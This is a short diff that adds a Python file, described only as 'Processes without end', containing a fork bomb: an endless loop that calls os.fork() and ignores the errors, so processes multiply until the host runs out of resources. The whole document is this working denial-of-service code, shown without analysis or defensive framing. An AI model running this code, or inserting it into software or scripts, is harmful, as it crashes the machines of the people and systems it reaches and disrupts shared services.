@@ -1,0 +1,9 @@
+"""Processes without end."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
